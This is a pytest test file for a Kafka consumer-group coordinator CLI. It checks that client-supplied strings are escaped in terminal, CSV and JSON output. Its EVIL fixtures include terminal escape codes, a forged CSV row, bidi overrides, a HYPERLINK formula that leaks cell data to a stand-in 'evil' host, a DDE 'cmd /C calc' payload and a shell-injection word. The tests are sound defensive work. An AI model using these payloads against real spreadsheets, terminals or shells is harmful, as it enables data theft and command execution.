"""The same evil strings everywhere a client can put one: no output obeys them, none has a row that they forged."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import shlex
import subprocess
import sys
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from coordinator_core import untrusted
from coordinator_core.cli.app import cli, run
from coordinator_core.cli.capture import undo_lines
from coordinator_core.errors import ExitCode
from coordinator_core.restore.source import csv_rows, read_csv
from coordinator_core.runs.prune import Removal
from coordinator_core.untrusted import csv_text, exact_row, shell_words, visible, visible_lines
from tests.cases import CORPUS
from tests.cli.commands import WITH_A_BROKER, leaves
from tests.drill.test_compare import group, journal, prediction
from tests.ingest import dumps
from tests.rules.logs import NOW_MS, assignment, classic, commit, consumer_group, member, one

CORE = Path(untrusted.__file__).parent
NOW = ["--kafka-version", "4.3.1", "--now-ms", "1800000000000"]
PARTITIONS = ["--offsets-topic-num-partitions", "3"]
FORGED = "payments        orders          0          999999"
EVIL = {
    "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2Jx\x9b31m",
    "row": f"a\n{FORGED}\r\nb\x85c\u2028d",
    "bidi": "abc\u202edcba\u2066",
    "formula": '=HYPERLINK("http://evil/"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "minus": "-2+3",
    "null": "a\x00b\x7f",
}
FORBIDDEN = [
    *map(chr, (*range(0x0A), *range(0x0B, 0x20), *range(0x7F, 0xA0))),
    "\u202e",
    "\u2066",
    "\u2028",
    f"\n{FORGED}",
]


TEXTS = {
    "describe": ["describe", "LOG", *NOW],
    "members": ["describe", "LOG", "--members", "--verbose", *NOW],
    "state": ["describe", "LOG", "--state", "--verbose", *NOW],
    "list": ["list", "LOG", *NOW],
    "stats": ["stats", "LOG", *NOW],
    "expire": ["expire", "LOG", "--offsets-retention-ms", "1", *NOW],
    "expire csv": ["expire", "LOG", "--offsets-retention-ms", "1", "--format", "csv", *NOW],
    "reconcile": ["reconcile", "RUN", "--fail-on", "never"],
    "reconcile csv": ["reconcile", "RUN", "--fail-on", "never", "--format", "csv"],
    "publish": ["reconcile", "RUN", "--publish", "--fail-on", "never"],
    "publish expiry": ["expire", "RUN", "--publish", "--offsets-retention-ms", "1"],
    "report": ["report", "RUN", "--output", "OUT", "--textfile", "OUT", "--openlineage", "OUT/lineage.jsonl"],
    "verify": ["verify", "LOG"],
    "verify run": ["verify", "RUN"],
    "compact": ["compact", "LOG", "--output", "OUT", *NOW],
    "replay": ["replay", "LOG", "--output", "OUT", "--cluster", "c", *NOW],
    "register": [
        *("register", "RUN", "--catalog", "evil", "--remove", "--property", "uri=sqlite:///:memory:"),
    ],
    "no such catalogue": ["register", "RUN", "--catalog", EVIL["row"]],
    "no such property": ["register", "RUN", "--catalog", "evil", "--property", f"{EVIL['row']}token=x"],
    "prune": ["prune", "OUTPUT", "--cluster", "c", "--keep", "1"],
    "loads": ["loads", "LOG"],
    "rescue": ["rescue", "LOG", *NOW],
    "repair": ["rescue", "STUCK", "--repair", "OUT/repaired", "--names", "OUT/names.csv", *PARTITIONS, *NOW],
    "investigate": ["investigate", "RUN"],
    "history": ["history", "LOG", "--output", "OUT/history.parquet", *NOW],
    "evidence": ["audit", "export", "LOG", "--output", "OUT/evidence", *NOW],
    "evidence verified": ["audit", "verify", "EVIDENCE", "--log", "LOG"],
    "investigation": ["investigate", "LOG", "--output", "OUT", *NOW],
    "a type": ["whatif", "RUN", "--to", "consumer"],
    "another type": ["whatif", "RUN", "--to", "streams"],
    "partitions": ["whatif", "RUN", "--offsets-partitions", "7"],
    "retention": ["whatif", "RUN", "--retention-ms", "1"],
    "put back": ["investigate", "LOG", "--format", "csv", *NOW],
    "deleted group": ["whatif", "RUN", "--delete-group", f"live{EVIL['row']}"],
    "deleted topic": ["whatif", "RUN", "--delete-topic", EVIL["clear"]],
    "plan": ["restore", "plan", "RUN", "--all-groups", "--against", "EARLIER", "--output", "OUT/plan.json"],
    "plan csv": ["restore", "plan", "RUN", "--all-groups", "--against", "EARLIER", "--format", "csv"],
    "plan page": ["restore", "plan", "RUN", "--all-groups", "--against", "EARLIER", "--format", "html"],
    "predict": [
        *("drill", "predict", "RUN", "--topology", "TOPOLOGY", "--scenario", "rolling-restart"),
        *("--cluster", EVIL["clear"] + EVIL["row"]),
    ],
    "prediction": [
        *("drill", "predict", "RUN", "--topology", "TOPOLOGY", "--scenario", "rolling-restart"),
        *("--output", "OUT/prediction.json"),
    ],
    "compare": ["drill", "compare", "PREDICTION", "JOURNAL", "--output", "OUT"],
    "simulate": ["simulate", "TRACE", "--check"],
    "import": ["import-records", f"{EVIL['row']}.parquet", "--output", "OUT", "--isolation-level", "read_committed"],
    "import records": ["import-records", "RECORDS", "--output", "OUT", "--isolation-level", "read_committed"],
    "rules": ["rules"],
    "dump": ["dump", "LOG", *NOW],
    "diff": ["diff", "EARLIER", "RUN"],
    "diff csv": ["diff", "EARLIER", "RUN", "--format", "csv"],
    **{f"explain {name}": ["explain", "LOG", "--group", text, *NOW] for name, text in EVIL.items() if "\0" not in text},
    **{f"no such {name}": ["describe", "LOG", "--group", f"?{text}", *NOW] for name, text in EVIL.items()},
    **{f"coordinator {name}": ["find-coordinator", f"?{text}"] for name, text in EVIL.items()},
}

FOR_PROGRAMS = {"dump", "plan csv", "put back"}
"""Results that a terminal is shown otherwise than a program."""

RAW = {".json", ".jsonl", ".parquet", ".log"}
NAMES = "names.csv"
READ_BACK = {NAMES, "offsets.csv"}
"""What ``restore plan --map-groups`` and ``--from-file`` read."""


def obeyed(text: str) -> list[str]:
    return [repr(each) for each in FORBIDDEN if each in text]


def given(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A run of the evil log, and what else commands are given, by the word that stands for it."""
    records = []
    for text in EVIL.values():
        owner = member(f"m{text}", owns=assignment(**{text: [0]})) | {"clientId": text, "clientHost": f"/{text}"}
        records += [
            classic(f"live{text}", owner, protocol=text),
            commit(text, text, metadata=text),
            commit(f"live{text}", text, metadata=text),
            # An offset that goes back to the beginning: something to put back.
            *(commit(f"reset{text}", text, offset=offset, time_ms=NOW_MS - offset) for offset in (1500, 0)),
        ]
    published = one(*records).publish(tmp_path_factory.mktemp("evil") / EVIL["clear"]).path
    place = tmp_path_factory.mktemp("beside")
    told = [group(text, coordinator_after=9) for text in EVIL.values()]
    (place / "prediction.json").write_text(json.dumps(prediction(group(), *told).to_json()))
    told_by = {"output": EVIL["clear"], "by": EVIL["row"]}
    events = [event | {name: text for name, text in told_by.items() if name in event} for event in journal()]
    (place / "journal.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
    trace = CORPUS.parent / "traces/reload/4.3.1/reload-static.jsonl"
    lines = [json.dumps(_renamed(json.loads(line))) for line in trace.read_text().splitlines()]
    (place / "trace.jsonl").write_text("\n".join(lines))
    # A coordinator that is given the new records of a classic group stops there (KAFKA-21117).
    names = [f"stuck{text}" for text in EVIL.values()]
    one(*(record for name in names for record in (commit(name), classic(name), consumer_group(name)[0]))).publish(
        place / "stuck"
    )
    rows = [dumps.row(at, *commit(text, text, metadata=text)) for at, text in enumerate(EVIL.values())]
    dumps.write(place / "records.parquet", rows)
    log = str(Path(published).parents[3] / "log")
    evidence = str(place / "evidence")
    assert run(["audit", "export", log, "--output", evidence, *NOW]) == 0
    return {
        "LOG": log,
        "EVIDENCE": evidence,
        "RUN": published,
        "OUTPUT": str(Path(published).parents[2]),
        "EARLIER": one(commit("g")).publish(place / "other").path,
        "TOPOLOGY": str(CORPUS / "k431-cluster/expected/before/topics.json"),
        "PREDICTION": str(place / "prediction.json"),
        "JOURNAL": str(place / "journal.jsonl"),
        "TRACE": str(place / "trace.jsonl"),
        "STUCK": str(place / "stuck/log"),
        "RECORDS": str(place / "records.parquet"),
    }


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    return given(tmp_path_factory)


@pytest.fixture(scope="module")
def published(places: dict[str, str]) -> str:
    return places["RUN"]


@pytest.fixture(scope="module")
def log(places: dict[str, str]) -> str:
    return places["LOG"]


def _renamed(value: Any, name: str = "") -> Any:
    """A line of a trace in which clients have other names."""
    if isinstance(value, dict):
        return {key: _renamed(each, key) for key, each in value.items()}
    if isinstance(value, list):
        return [_renamed(each, name) for each in value]
    return value + EVIL["row"] + EVIL["clear"] if name in _GIVEN_BY_CLIENTS and isinstance(value, str) else value


_GIVEN_BY_CLIENTS = {"groupId", "group", "memberId", "groupInstanceId", "clientId", "topic", "protocolName"}


def test_every_command_is_among_them() -> None:
    covered = {
        leaf for leaf in leaves(cli) if any(words[: len(leaf.split())] == leaf.split() for words in TEXTS.values())
    }
    assert covered | WITH_A_BROKER.keys() == set(leaves(cli))


def test_no_path_obeys(monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> None:
    removals = [Removal("runs", 0, (f"c/{EVIL['clear']}",))]
    monkeypatch.setattr("coordinator_core.cli.prune.prunable", lambda *_: removals)
    assert run(["prune", "OUTPUT", "--cluster", "c", "--keep", "1"]) == ExitCode.CLEAN
    assert obeyed(capfd.readouterr().out) == []


@pytest.mark.parametrize("command", TEXTS)
def test_no_text_obeys_a_client(
    command: str, places: dict[str, str], tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    out = str(tmp_path / "out")
    words = [places.get(word, word.replace("OUT/", f"{out}/").replace("OUT", out)) for word in TEXTS[command]]
    assert run(words) in (0, 1, 2)
    captured = capfd.readouterr()
    if command not in FOR_PROGRAMS:
        assert obeyed(captured.out) == []
    assert obeyed(captured.err) == []
    texts = {"": captured.out} if command == "diff csv" else {}
    written = [(path, path.relative_to(top)) for top in (out, places["OUTPUT"]) for path in Path(top).rglob("*")]
    for path, name in written:
        assert obeyed(str(name)) == []
        if path.is_file() and path.suffix not in RAW and path.name not in READ_BACK:
            text = path.read_text()
            assert obeyed(text) == [], path
            if path.suffix == ".csv":
                texts[path.name] = text
        elif path.suffix == ".jsonl":
            assert all(map(json.loads, path.read_text().removesuffix("\n").split("\n")))
    assert all(texts.values())
    for cell in (cell for text in texts.values() for row in csv.reader(io.StringIO(text)) for cell in row):
        assert not cell.startswith(("=", "+", "@"))
    assert len(list((tmp_path / "out").rglob("*"))) >= WRITTEN.get(command, 0)


WRITTEN = {"report": 6, "repair": 3, "investigation": 3, "plan": 1, "prediction": 1, "compare": 2, "import records": 3}
"""Least number of files and directories."""


def test_csv_for_programs_is_read_as_it_was(
    places: dict[str, str], tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """Names in it are not escaped: Kafka's tools would make a group of the escaped name."""
    names = tmp_path / NAMES
    assert run(["rescue", places["STUCK"], "--names", str(names), *PARTITIONS, *NOW]) == ExitCode.FINDINGS
    found = dict(row for _, row in csv_rows("f", names.read_bytes().decode()))
    assert found.keys() == {f"stuck{text}" for text in EVIL.values()}
    assert all(new.startswith(f"{old}-") for old, new in found.items())
    plan = ["restore", "plan", "--against", places["EARLIER"]]
    capfd.readouterr()
    assert run([*plan, places["STUCK"], "--map-groups", str(names), "--format", "json", *NOW]) in (0, 1)
    document = json.loads(capfd.readouterr().out)
    assert {group["group_id"] for group in document["groups"]} == set(found.values())
    assert run([*plan, places["RUN"], "--all-groups", "--format", "json"]) in (0, 1)
    document = json.loads(capfd.readouterr().out)
    assert run([*plan, places["RUN"], "--all-groups", "--format", "csv"]) in (0, 1)
    assert {(key.group_id, key.topic) for key in read_csv("f", capfd.readouterr().out, ()).positions} == {
        (group["group_id"], row["topic"]) for group in document["groups"] for row in group["rows"] if row["after"]
    }


@pytest.mark.parametrize("command", ["expire csv"])
def test_no_cell_is_a_formula(command: str, log: str, capfd: pytest.CaptureFixture[str]) -> None:
    assert run([{"LOG": log}.get(word, word) for word in TEXTS[command]]) == ExitCode.CLEAN
    rows = list(csv.reader(io.StringIO(capfd.readouterr().out)))
    cells = {cell for row in rows[1:] for cell in row}
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert f"'{EVIL['formula']}" in cells


def test_no_topic_to_put_back_is_a_row_or_a_formula(log: str, capfd: pytest.CaptureFixture[str]) -> None:
    """Groups may have any name, topics may not."""
    assert run([{"LOG": log}.get(word, word) for word in TEXTS["put back"]]) == ExitCode.FINDINGS
    rows = list(csv.reader(io.StringIO(capfd.readouterr().out, newline="")))
    assert {len(row) for row in rows} == {4}
    topics = {topic for _, topic, *_ in rows}
    assert f"'{visible(EVIL['formula'])}" in topics
    assert visible(EVIL["row"]) in topics
    assert all(obeyed(topic) == [] and not topic.startswith(("=", "+", "@")) for topic in topics)


def test_json_has_the_strings_as_they_are(log: str, capfd: pytest.CaptureFixture[str]) -> None:
    assert run(["describe", log, "--format", "json", *NOW]) == ExitCode.CLEAN
    groups = {group["group_id"]: group for group in json.loads(capfd.readouterr().out)["groups"]}
    for text in EVIL.values():
        (offset,) = groups[text]["offsets"]
        (found,) = groups[f"live{text}"]["members"]
        assert (offset["topic"], offset["metadata"]) == (text, text)
        assert (found["client_id"], found["client_host"]) == (text, f"/{text}")


@pytest.mark.parametrize("name", sorted(FOR_PROGRAMS))
def test_what_programs_read_is_escaped_on_a_terminal_only(name: str, places: dict[str, str]) -> None:
    command = [sys.executable, "-m", "coordinator_core", *(places.get(word, word) for word in TEXTS[name])]
    ours, theirs = os.openpty()
    with subprocess.Popen(command, stdout=theirs, stderr=subprocess.DEVNULL) as process:
        os.close(theirs)
        shown = b""
        while True:
            try:
                part = os.read(ours, 1 << 16)
            except OSError:
                break
            if not part:
                break
            shown += part
    os.close(ours)
    assert process.returncode in (0, 1)
    # Jackson escapes what is below a space; Kafka's tool writes the rest as it is.
    assert obeyed(shown.decode().replace("\r\n", "\n")) == []
    assert r"abc\u202edcba\u2066" in shown.decode()
    piped = subprocess.run(command, capture_output=True, check=False).stdout.decode()
    assert EVIL["bidi"] in piped


@pytest.mark.parametrize(
    "text, shown",
    [
        ("plain äöü 日本 😀", "plain äöü 日本 😀"),
        ("a\tb\nc", r"a\tb\nc"),
        ("\x1b[0m\x7f\x85", r"\x1b[0m\x7f\x85"),
        ("\u202e\u2066\u200b", r"\u202e\u2066\u200b"),
        ("\ud800\udcff", r"\ud800\udcff"),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(shown) == shown


@pytest.mark.parametrize(
    "words",
    [
        ["--group", "plain", "", "it's", "jobs; touch x #", "a b", "$HOME", "*", "-g", "äöü"],
        ["pay\xa0ments", "line\n1", "\u202e'\\'", "bell\x071", "\U000e0001"],
        ["\udcff of a path"],
    ],
)
def test_a_shell_reads_the_words_of_a_command_again(words: list[str]) -> None:
    command = shell_words(words)
    assert command.isprintable()
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {command}"], capture_output=True, check=True)
    assert done.stdout.split(b"\0")[:-1] == [word.encode("utf-8", "surrogateescape") for word in words]


def test_a_half_of_a_character_is_shown_as_kafka_writes_it() -> None:
    assert shell_words(["a\ud800"]) == r"$'a\077'"


def test_what_prints_the_other_undo_commands_names_the_capture_as_one_word() -> None:
    *first, last = undo_lines([f"undo {number}" for number in range(8)], "captures/of today's")
    assert first == [f"undo {number}" for number in range(5)]
    words = shlex.split(last.removeprefix("and 3 more: "))
    assert words == ["regroup", "investigate", "captures/of today's"]


def test_names_come_into_commands_as_words() -> None:
    """``words.tool`` quotes them; no text puts one behind an option itself."""
    found = [
        f"{path.name}:{node.lineno}"
        for path in (CORE / "investigate").glob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.JoinedStr)
        for before, value in pairwise(node.values)
        if isinstance(value, ast.FormattedValue) and re.search(r"--(topic|group|\S+-id)[ =]'$", ast.unparse(before))
    ]
    assert found == []


def test_lines_stay_lines() -> None:
    assert visible_lines("a\x1b\nb\r\n") == "a\\x1b\nb\\r\n"


def test_exact_rows() -> None:
    rows = [["a,b", 'say "x"', "a\rb", "a\nb", "\u2028\x85"], ["-1", "", "=1", " ", "'"]]
    text = "".join(f"{exact_row(row)}\n" for row in rows)
    assert text == '"a,b","say ""x""","a\rb","a\nb",\u2028\x85\n-1,,=1, ,\'\n'
    assert [row for _, row in csv_rows("f", text)] == rows


def test_cells() -> None:
    rows = [["=1", "+1", "-1", "@x", " =1", "a\nb", "a=1"], [-1, None, 2.5, "", "'", "\t=1", "\r=1"]]
    assert csv_text(list("abcdefg"), rows) == ("a,b,c,d,e,f,g\n'=1,'+1,'-1,'@x, =1,a\\nb,a=1\n-1,,2.5,,',\\t=1,\\r=1\n")
